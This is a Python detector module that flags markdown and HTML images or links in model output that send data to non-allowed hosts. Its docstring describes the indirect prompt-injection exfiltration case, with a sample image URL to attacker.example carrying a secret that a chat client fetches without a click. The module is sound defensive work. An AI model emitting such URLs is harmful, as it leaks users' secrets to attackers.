"""URLs and data exfiltration through markdown (and HTML) images and links in model output.

The classic indirect-injection exfiltration: a poisoned document makes the model emit
``![x](https://attacker.example/p?d=<secret>)``; the chat client fetches the image and the data
leaves without a click. ``markdown_exfil(allowed_hosts)`` flags images and links whose URL
carries data (a query string, a fragment, or a long/high-entropy path segment) to a host that
is not allowed. Host matching: an entry ``example.com`` allows ``example.com`` and every
subdomain (``cdn.example.com``); matching is case-insensitive and ignores a trailing dot and the
port. Findings span the URL only. Types: ``image_exfil`` (score 0.9: fetched automatically) and
``link_exfil`` (score 0.6: needs a click).
"""

from __future__ import annotations

from collections.abc import Sequence
from urllib.parse import urlsplit

from celgate.detectors._re import Text, compile_re, group_names, spans
from celgate.detectors.base import Finding
from celgate.detectors.secrets import shannon_entropy

_URL = r"(?:https?|ftp)://[^\s<>\"'`\])}]+|\bwww\.[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+[^\s<>\"'`\])}]*"
_URLS = compile_re(_URL)
_TRAIL = ".,;:!?*_~"
_MD = compile_re(
    r"(?P<img>!\[[^\]\n]*\]\(\s*<?(?P<img_url>[^\s)>]+))"
    r"|(?P<link>\[[^\]\n]*\]\(\s*<?(?P<link_url>[^\s)>]+))"
    r"|(?P<ref>(?m:^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(?P<ref_url>[^\s>]+)))"
    r"|(?P<html_img>(?i:<(?:img|image|source|video|audio|iframe)\b[^>]*?\bsrc(?:set)?\s*=\s*[\"']?"
    r"(?P<html_url>[^\"'\s>]+)))"
    r"|(?P<html_a>(?i:<a\b[^>]*?\bhref\s*=\s*[\"']?(?P<a_url>[^\"'\s>]+)))"
)
_MD_NAMES = group_names(_MD)
_MD_INDEX = {n: i for i, n in _MD_NAMES.items()}
_KIND = {
    "img": ("img_url", "image_exfil", 0.9),
    "link": ("link_url", "link_exfil", 0.6),
    "ref": ("ref_url", "image_exfil", 0.8),
    "html_img": ("html_url", "image_exfil", 0.9),
    "html_a": ("a_url", "link_exfil", 0.6),
}


def extract_urls(text: str, max_chars: int) -> list[str]:
    """Absolute http(s)/ftp URLs and bare ``www.`` hosts, trailing punctuation trimmed, in order."""
    t = Text(text, max_chars)
    out = []
    for sp in spans(_URLS, t.data):
        url = t.s(*sp[0]).rstrip(_TRAIL)
        if url:
            out.append(url)
    return out


def host_allowed(host: str, allowed: Sequence[str]) -> bool:
    """``example.com`` allows itself and its subdomains; ``*.example.com`` only subdomains."""
    host = host.lower().rstrip(".")
    for entry in allowed:
        a = entry.strip().lower().rstrip(".")
        if not a:
            continue
        if a.startswith("*."):
            if host.endswith(a[1:]):
                return True
        elif host == a or host.endswith("." + a):
            return True
    return False


def carries_data(url: str) -> bool:
    """A query, fragment, or a path segment long or random enough to encode data."""
    parts = urlsplit(url)
    if parts.query or parts.fragment:
        return True
    for seg in parts.path.split("/"):
        if len(seg) >= 32 or (len(seg) >= 12 and shannon_entropy(seg) >= 3.5):
            return True
    return bool(parts.username or parts.password)


def markdown_exfil(text: str, allowed: Sequence[str], max_chars: int) -> list[Finding]:
    """Images/links (markdown, reference-style, HTML) sending data to non-allowed hosts."""
    t = Text(text, max_chars)
    out = []
    for sp in spans(_MD, t.data):
        kind = next(_MD_NAMES[i] for i in range(1, len(sp)) if sp[i][0] >= 0 and _MD_NAMES[i] in _KIND)
        group, typ, score = _KIND[kind]
        us, ue = sp[_MD_INDEX[group]]
        url = t.s(us, ue)
        if url.startswith("//"):
            url = "https:" + url
        try:
            parts = urlsplit(url)
            host = parts.hostname or ""
        except ValueError:
            host, parts = "", None
        if parts is None or parts.scheme.lower() not in ("http", "https", "ftp") or not host:
            continue  # relative links stay on the serving origin; javascript: is html()'s job
        if host_allowed(host, allowed) or not carries_data(url):
            continue
        out.append(Finding(typ, t.cp(us), t.cp(ue), score))
    return out
